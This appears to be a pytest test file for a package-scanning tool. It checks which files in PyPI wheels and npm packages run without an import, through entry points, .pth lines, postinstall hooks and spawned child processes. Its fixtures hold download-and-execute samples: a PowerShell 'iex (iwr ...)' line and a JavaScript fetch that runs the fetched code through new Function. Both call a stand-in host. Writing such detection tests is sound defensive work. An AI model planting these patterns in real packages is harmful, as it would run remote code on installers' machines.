"""Files that run without an import: what other programs load, and scripts that code starts beside itself."""

from __future__ import annotations

from collections.abc import Callable, Mapping

import pytest

from adapters.sigil.local.analysis import facts_of
from adapters.sigil.local.material import Ecosystem, Package
from adapters.sigil.local.phases.scanned import Scanned
from tests.adapters.sigil.local.phases.conftest import Outcome, Pack


@pytest.mark.parametrize(
    ("group", "loads"), [("pytest11", True), ("flake8.extension", True), ("console_scripts", False)]
)
def test_entry_points_that_other_programs_load(group: str, loads: bool, pack: Pack) -> None:
    """A module that a program loads by its entry point runs without being imported; a command is somebody's call."""
    files = {
        "sample/__init__.py": "",
        "sample/plugin.py": "import os",
        "sample-1.0.dist-info/entry_points.txt": f"[{group}]\nname = sample.plugin:Plugin\n",
    }
    package = pack(files, Ecosystem.PYPI, "sample-1.0-py3-none-any.whl")
    assert ("sample/plugin.py" in Scanned(package, facts_of(package.files), {}).loaded) is loads


@pytest.mark.parametrize(
    ("table", "loads"),
    [
        ("project.entry-points.pytest11", True),
        ("project.entry-points.'flake8.extension'", True),
        ("tool.poetry.plugins.'sphinx.builders'", True),
        ("project.entry-points.console_scripts", False),
        ("project.scripts", False),
    ],
)
def test_entry_points_of_a_source_archive(table: str, loads: bool, pack: Pack) -> None:
    """An archive of sources names them in pyproject.toml alone."""
    files = {
        "src/sample/__init__.py": "",
        "src/sample/plugin.py": "import os",
        "pyproject.toml": f"[project]\nname = 'sample'\n[{table}]\nname = 'sample.plugin:Plugin'\n",
    }
    package = pack(files, Ecosystem.PYPI, "sample-1.0.tar.gz")
    assert ("src/sample/plugin.py" in Scanned(package, facts_of(package.files), {}).loaded) is loads


def test_a_start_up_line_leads_to_a_hidden_module(pack: Pack) -> None:
    """A .pth file that asks for a module by a call runs it at each start of Python."""
    files = {
        "sample.pth": "import os; __import__('sample._boot')",
        "sample/__init__.py": "",
        "sample/_boot.py": "import os",
    }
    package = pack(files, Ecosystem.PYPI, "sample-1.0-py3-none-any.whl")
    assert "sample/_boot.py" in Scanned(package, facts_of(package.files), {}).installed


@pytest.mark.parametrize(
    ("line", "dangerous"),
    [("iex (iwr https://drop.invalid/a)", True), ("Write-Output 'a runtime is missing'", False)],
)
def test_a_script_beside_the_hook(
    line: str, dangerous: bool, pack: Pack, outcome: Callable[[Package], Outcome]
) -> None:
    """A script of another language that a hook starts from its own folder is read like the hook."""
    code = (
        "require('child_process').execFile('powershell.exe', ['-File', require('path').resolve(__dirname, 'a.ps1')]);"
    )
    files: dict[str, str | Mapping[str, object]] = {
        "package.json": {"name": "sample", "scripts": {"postinstall": "node tools/a.js"}},
        "tools/a.js": code,
        "tools/a.ps1": f"$d = 'x'\n{line}\n",
    }
    assert outcome(pack(files)).dangerous is dangerous


_SPEAKS = "fetch('https://drop.invalid/a').then((r) => r.text()).then((t) => new Function('require', t)(require));"
_LINE = "`require(${JSON.stringify(path.join(__dirname, 'beat.js'))})()`"


@pytest.mark.parametrize(
    "start",
    [
        f"cp.spawn('node', ['-e', {_LINE}], {{ detached: true, stdio: 'ignore' }})",
        f"cp.exec('node -e ' + {_LINE})",
        f"cp.spawn(process.execPath, ['-e', {_LINE}])",
        "cp.execFile('node', ['-e', `require('${path.resolve(__dirname, 'beat')}').start()`])",
        "cp.fork(path.join(__dirname, 'beat.js'))",
    ],
)
def test_a_line_that_requires_a_file_beside(start: str, pack: Pack) -> None:
    """A file that a line handed to another interpreter requires runs with the one that hands it over."""
    files: dict[str, str | Mapping[str, object]] = {
        "package.json": {"name": "sample"},
        "index.js": "require('./lib/log')",
        "lib/log.js": f"const cp = require('child_process'), path = require('path');\n{start};",
        "lib/beat.js": _SPEAKS,
        "lib/idle.js": _SPEAKS,
    }
    package = pack(files)
    loaded = Scanned(package, facts_of(package.files), {}).loaded
    assert "lib/beat.js" in loaded
    assert "lib/idle.js" not in loaded


@pytest.mark.parametrize(
    ("name", "loads"),
    [
        ("'./rules/' + name", True),
        ("`./rules/${name}.js`", True),
        ("path.join(__dirname, 'rules', name)", True),
        ("`../lib/rules/${name}/index.js`", True),
        ("'./other/' + name", False),
        ("name", False),
    ],
)
def test_a_folder_of_which_any_file_is_loaded(*, name: str, loads: bool, pack: Pack) -> None:
    """Of a name of which only the end is unknown every file is meant that it may be, and no other."""
    files: dict[str, str | Mapping[str, object]] = {
        "package.json": {"name": "sample", "main": "lib/index.js"},
        "lib/index.js": (
            "const fs = require('fs'), path = require('path');\n"
            f"for (const name of fs.readdirSync(path.join(__dirname, 'rules'))) require({name});"
        ),
        "lib/rules/a.js": "fetch('https://e.invalid/');",
        "lib/rules/b/index.js": "fetch('https://e.invalid/');",
        "lib/rules/b/inner.js": "fetch('https://e.invalid/');",
    }
    package = pack(files)
    loaded = Scanned(package, facts_of(package.files), {}).loaded
    assert loaded - {"lib/index.js"} == ({"lib/rules/a.js", "lib/rules/b/index.js"} if loads else set())
